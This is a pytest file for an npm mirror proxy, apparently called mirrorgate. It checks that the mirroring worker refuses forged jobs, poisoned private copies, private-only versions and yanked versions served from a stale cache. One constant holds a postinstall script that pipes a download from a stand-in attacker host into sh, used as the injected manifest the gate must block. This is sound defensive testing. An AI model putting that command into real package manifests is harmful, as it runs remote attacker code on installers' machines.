"""The re-gate reads the public packument through a cache, and no cache makes it admit more.

The worker re-gates every job against the public packument (`worker.regate`). It reads it as
the serve path does: through the serve path's own packument cache when both run in one process
(`ServedPublic`), through the same cache class and settings when it runs alone
(`CachedPublic`). The attacks: a private registry holding a copy of a version with an injected
manifest (the serve cache's merged entry then shows the private copy), a version only the
private side lists, and public yanking a version while it fails (a stale cached copy still
lists it). None of them gets a job admitted.
"""

from __future__ import annotations

import dataclasses
from collections.abc import AsyncIterator, Awaitable, Callable, Iterator
from pathlib import Path
from typing import Any

import orjson
import pytest
from structlog.testing import LogCapture

from mirrorgate.gate.packuments.public import CachedPublic
from mirrorgate.mirror import MirrorJob
from mirrorgate.npm.mirrormark import without_mark
from mirrorgate.npm.names import parse_name
from mirrorgate.rules import DEFAULT_RULES
from mirrorgate.upstream.client import Upstream
from mirrorgate.upstream.filestore import FileStore
from mirrorgate.worker.loop import Worker
from tests.clock import ManualClock
from tests.serve.rig import ProxyStack, RunningProxy, make_settings, open_proxy
from tests.servers.fixture_registry import Fault, FixtureRegistry
from tests.servers.fixtures import MirrorgateFactory
from tests.servers.packages import make_package, make_version, tarball_path
from tests.servers.processes import http_request, wait_for
from tests.worker.rig import RigFactory, events, handled, in_process_worker, job_from

INJECTED = {"postinstall": "curl -s http://attacker.invalid/x | sh"}


def packument_gets(public: FixtureRegistry, name: str) -> list[str]:
    """The User-Agent of every request for `name`'s packument (the pool it came from)."""
    return [seen.headers.get("User-Agent", "") for seen in public.requests
            if seen.path == f"/{name}"]


# --- the worker alone: the serve path's cache class and bounds ---------------------------

async def test_jobs_for_one_name_within_the_ttl_cost_the_worker_one_public_packument_read(
        make_rig: RigFactory, public_registry: FixtureRegistry) -> None:
    public_registry.add(make_package("two-jobs", ["1.0.0", "1.1.0"]))
    rig = await make_rig()
    for version in ("1.0.0", "1.1.0"):
        await rig.queue.enqueue(job_from(public_registry, "two-jobs", version))
        assert await rig.handle_next() == "published"

    # one read, on the fills pool a serve-path fill uses (bounded by MIRRORGATE_POOL_FILLS)
    assert packument_gets(public_registry, "two-jobs") == ["mirrorgate (fills)"]


async def test_a_version_published_since_the_worker_cached_the_packument_is_mirrored(
        make_rig: RigFactory, public_registry: FixtureRegistry) -> None:
    """The proxy saw 1.1.0 (it enqueued the job) but the worker's copy predates it: the
    refusal is confirmed against public before it stands, and public lists it now."""
    public_registry.add(make_package("new-release", ["1.0.0"]))
    rig = await make_rig()
    await rig.queue.enqueue(job_from(public_registry, "new-release", "1.0.0"))
    assert await rig.handle_next() == "published"

    public_registry.add(make_package("new-release", ["1.0.0", "1.1.0"]))
    await rig.queue.enqueue(job_from(public_registry, "new-release", "1.1.0"))

    assert await rig.handle_next() == "published"
    asked = [seen for seen in public_registry.requests if seen.path == "/new-release"]
    assert len(asked) == 2
    assert "If-None-Match" in asked[1].headers  # a revalidation, not a blind refetch


async def test_a_yanked_version_is_never_admitted_from_a_stale_copy_while_public_fails(
        make_rig: RigFactory, public_registry: FixtureRegistry, tmp_path: Path,
        logs: LogCapture) -> None:
    """Public lists 1.1.0, the worker caches that, then public yanks 1.1.0 and starts failing:
    past the TTL the cache still holds the old listing (the serve path would serve it for a
    while, stale-if-error), but the worker never admits on it; it retries, and once public
    answers again the job is refused."""
    public_registry.add(make_package("yanked", ["1.0.0", "1.1.0"]))
    rig = await make_rig()
    clock = ManualClock()
    cached = CachedPublic(rig.deps.public, rig.deps.settings, clock=clock)
    worker = Worker(dataclasses.replace(rig.deps, packuments=cached), idle_pause=0.01)
    forged = job_from(public_registry, "yanked", "1.1.0")
    await rig.queue.enqueue(job_from(public_registry, "yanked", "1.0.0"))
    (first,) = await rig.queue.receive()
    assert await worker.handle(first) == "published"

    public_registry.add(make_package("yanked", ["1.0.0"]))
    public_registry.fault("/yanked", Fault(status=503), exact=True)
    clock.advance(rig.deps.settings.cache_ttl + 1)
    await rig.queue.enqueue(forged)
    (second,) = await rig.queue.receive()
    assert await worker.handle(second) == "retried"
    assert [e["reason"] for e in events(logs, "mirror_retry")] == ["public-failed"]

    public_registry.clear_faults()
    clock.advance(cached.cache.retry_interval + 1)
    (again,) = await rig.queue.receive()
    assert await worker.handle(again) == "retired"
    assert rig.retired("public-missing") == 1
    assert tarball_path("yanked", "1.1.0") not in rig.tarball_gets()
    stored = await FileStore(tmp_path / "store").packument(parse_name("yanked"))
    assert stored is not None
    assert set(stored["versions"]) == {"1.0.0"}


async def test_a_200_that_is_no_packument_retries_the_job_instead_of_retiring_it(
        make_rig: RigFactory, public_registry: FixtureRegistry, logs: LogCapture) -> None:
    """A rate limiter's `{"error": ...}` for the packument lists no version: read as public's
    answer, the job would be retired `public-missing` and the pull never mirrored."""
    public_registry.add(make_package("limited", ["1.0.0"]))
    public_registry.fault("/limited", Fault(body=b'{"error": "rate limited"}'), exact=True)
    rig = await make_rig()
    cached = CachedPublic(rig.deps.public, rig.deps.settings, clock=ManualClock())
    worker = Worker(dataclasses.replace(rig.deps, packuments=cached), idle_pause=0.01)
    await rig.queue.enqueue(job_from(public_registry, "limited", "1.0.0"))
    (first,) = await rig.queue.receive()

    assert await worker.handle(first) == "retried"
    assert rig.retired("public-missing") == 0
    [line] = events(logs, "upstream_not_a_packument")
    assert line["package"] == "limited"


async def test_the_worker_reads_publics_packument_lazily_never_parsed_whole(
        make_rig: RigFactory, public_registry: FixtureRegistry,
        monkeypatch: pytest.MonkeyPatch) -> None:
    """A job reads one version of public's packument: its answer used to be parsed whole on
    the event loop and thrown away (kept as bytes), a 20 MB packument's 100 MiB of objects at
    once, the peak of a cold install with every protection. Now read as the serve path's
    one-version fill reads it, checked to be the name's packument all the same."""
    public_registry.add(make_package("lazily", ["1.0.0", "1.1.0"]))
    whole: list[int] = []
    real = Upstream._document

    def counting(self: Upstream, body: bytes) -> object:
        whole.append(len(body))
        return real(self, body)

    monkeypatch.setattr(Upstream, "_document", counting)
    rig = await make_rig()
    await rig.queue.enqueue(job_from(public_registry, "lazily", "1.1.0"))
    assert await rig.handle_next() == "published"
    assert whole == []


async def test_a_value_the_job_reads_that_is_not_json_retires_it_as_a_whole_parse_would(
        make_rig: RigFactory, public_registry: FixtureRegistry) -> None:
    """The lazy read's one departure (`npm.lazydoc`): a number past a double's range is seen
    only where it is read. In the job's own version it is read, and the job is retired as
    public's refusal, as when the whole document was parsed: never admitted, never a crash."""
    public_registry.add(make_package("overflowing", ["1.0.0"]))
    job = job_from(public_registry, "overflowing", "1.0.0")
    body = orjson.dumps(public_registry.packument("overflowing"))
    spoiled = body.replace(b'"version":"1.0.0"', b'"version":"1.0.0","x":1e400', 1)
    assert spoiled != body
    public_registry.fault("/overflowing", Fault(body=spoiled), exact=True)
    rig = await make_rig()
    await rig.queue.enqueue(job)
    assert await rig.handle_next() == "retired"
    assert rig.retired("public-refused") == 1
    assert tarball_path("overflowing", "1.0.0") not in rig.tarball_gets()


# --- the worker beside the proxy: the serve path's own cache -----------------------------

@pytest.fixture
def private_copies(public_registry: FixtureRegistry) -> Iterator[FixtureRegistry]:
    """A private registry holding `poisoned`: 1.0.0 as a mirrored copy whose manifest gained a
    postinstall script, and 99.0.0, a "mirrored" version public never published. Public holds
    the real 1.0.0 and `left-pad`."""
    public_registry.add(make_package("poisoned", ["1.0.0"]), make_package("left-pad", ["1.3.0"]))
    private = make_package("poisoned", [
        make_version("poisoned", "1.0.0", scripts=INJECTED).marked(),
        make_version("poisoned", "99.0.0", scripts=INJECTED).marked()])
    with FixtureRegistry(private) as registry:
        yield registry


StartServing = Callable[[str], Awaitable[RunningProxy]]


@pytest.fixture
async def start_serving(public_registry: FixtureRegistry,
                        tmp_path: Path) -> AsyncIterator[StartServing]:
    """`await start_serving(private_url)`: a proxy as `mirrorgate serve` builds it with its
    worker, its private upstream at `private_url` (or a file store)."""
    stacks: list[ProxyStack] = []

    async def start(private: str) -> RunningProxy:
        store = Path(private.removeprefix("file://")) if private.startswith("file://") else None
        settings = make_settings(public_registry.url, private, tmp_path / "data")
        stacks.append(await open_proxy(settings, store=store, rules=DEFAULT_RULES, queue=None,
                                       worker_beside=True))
        return stacks[-1].running

    yield start
    for stack in stacks:
        await stack.close()


async def test_a_job_right_after_a_pull_costs_no_second_public_packument_request(
        start_serving: StartServing, public_registry: FixtureRegistry, tmp_path: Path) -> None:
    public_registry.add(make_package("pulled", ["1.0.0"]))
    proxy = await start_serving(f"file://{tmp_path / 'private'}")
    reply = await proxy.get("npm/" + tarball_path("pulled", "1.0.0").lstrip("/"))
    assert reply.status == 200
    (job,) = await proxy.jobs()
    worker = in_process_worker(proxy, tmp_path / "store")

    assert await handled(worker, job) == "published"
    assert packument_gets(public_registry, "pulled") == ["mirrorgate (fills)"]


def test_mirrorgate_serve_mirrors_a_pull_with_one_public_packument_request(
        mirrorgate: MirrorgateFactory, public_registry: FixtureRegistry) -> None:
    """The real command, proxy and worker in one process (the memory queue, the file store):
    the worker's re-gate is wired to the proxy's cache, so a pull and its mirror cost public
    one packument request, the proxy's."""
    public_registry.add(make_package("one-read", ["1.0.0"]))
    proxy = mirrorgate("serve", {"MIRRORGATE_PUBLIC_UPSTREAM": public_registry.url})

    reply = http_request("GET", proxy.registry_url + tarball_path("one-read", "1.0.0")[1:])

    assert reply.status == 200
    wait_for(lambda: proxy.events("mirror_published"), timeout=30,
             message="the in-process worker to mirror the pull")
    assert packument_gets(public_registry, "one-read") == ["mirrorgate (fills)"]
    assert proxy.events("mirror_job_refused") == []


async def test_a_poisoned_private_copy_in_the_serve_cache_never_becomes_the_public_manifest(
        start_serving: StartServing, public_registry: FixtureRegistry,
        private_copies: FixtureRegistry, tmp_path: Path, logs: LogCapture) -> None:
    proxy = await start_serving(private_copies.url)
    served = await proxy.get("npm/poisoned")
    assert served.status == 200
    listed = served.json()["versions"]
    # what the cache holds for clients: the private copy wins; a "mirrored" 99.0.0 public
    # does not list is held withdrawn (public-withdrawn), and still in the cache's records
    assert listed["1.0.0"]["scripts"] == INJECTED
    assert "99.0.0" not in listed
    assert served.json()["policyRestrictions"]["denials"]["99.0.0"]["rule"] == (
        "public-withdrawn")
    worker = in_process_worker(proxy, tmp_path / "store")
    private_manifest: dict[str, Any] = without_mark(
        private_copies.packument("poisoned")["versions"]["1.0.0"])
    real = job_from(public_registry, "poisoned", "1.0.0")
    as_cached = dataclasses.replace(real, manifest={
        key: value for key, value in private_manifest.items() if key != "readme"} | {
        "dist": real.manifest["dist"]})
    other = job_from(public_registry, "left-pad", "1.3.0")
    only_private = MirrorJob("poisoned", "99.0.0", dataclasses.replace(
        other.artifact, filename="poisoned-99.0.0.tgz"),
        {**other.manifest, "name": "poisoned", "version": "99.0.0", "scripts": INJECTED})

    assert await handled(worker, as_cached) == "retired"
    assert await handled(worker, only_private) == "retired"

    refused = events(logs, "mirror_job_refused")
    assert [line["reason"] for line in refused] == ["manifest-mismatch"]
    # the proxy saw 99.0.0 withdrawn (mirrored, not on public): retired before public is asked
    [withdrawn] = [line for line in events(logs, "mirror_retired")
                   if line["reason"] == "public-withdrawn"]
    assert "poisoned@99.0.0 was withdrawn" in withdrawn["detail"]
    assert "scripts" in refused[0]["fields"]
    assert await FileStore(tmp_path / "store").packument(parse_name("poisoned")) is None
    assert not any("/-/" in seen.path for seen in public_registry.requests
                   if seen.headers.get("User-Agent") == "mirrorgate (worker)")
    # the proxy's fill; then, the proxy's record of 1.0.0 being the private copy's (never the
    # worker's word), public's own answer read by the worker, and the refusal confirmed with a
    # conditional request (public unchanged: the verdict stood)
    asked = [seen for seen in public_registry.requests if seen.path == "/poisoned"]
    assert len(asked) == 3
    assert "If-None-Match" not in asked[0].headers
    assert "If-None-Match" not in asked[1].headers
    assert "If-None-Match" in asked[2].headers


async def test_a_forged_job_is_refused_whatever_the_proxys_verdict_on_its_version(
        start_serving: StartServing, public_registry: FixtureRegistry, tmp_path: Path,
        logs: LogCapture) -> None:
    """The worker beside the proxy judges a job by the proxy's record of the version, no
    parse: a job naming an admitted version but carrying another manifest or digest (anyone
    with send rights can write one) is refused all the same, from public's own answer."""
    public_registry.add(make_package("admitted", ["1.0.0"]))
    proxy = await start_serving(f"file://{tmp_path / 'private'}")
    reply = await proxy.get("npm/" + tarball_path("admitted", "1.0.0").lstrip("/"))
    assert reply.status == 200
    (real,) = await proxy.jobs()
    worker = in_process_worker(proxy, tmp_path / "store")
    scripted = dataclasses.replace(real, manifest={**real.manifest, "scripts": INJECTED})
    other = job_from(public_registry, "admitted", "1.0.0")
    elsewhere = dataclasses.replace(real, artifact=dataclasses.replace(
        other.artifact, tarball_url=other.artifact.tarball_url.replace("admitted-1.0.0",
                                                                       "admitted-9.9.9")))

    assert await handled(worker, scripted) == "retired"
    assert await handled(worker, elsewhere) == "retired"
    assert [line["reason"] for line in events(logs, "mirror_job_refused")] == [
        "manifest-mismatch", "tarball-mismatch"]
    assert await handled(worker, real) == "published"
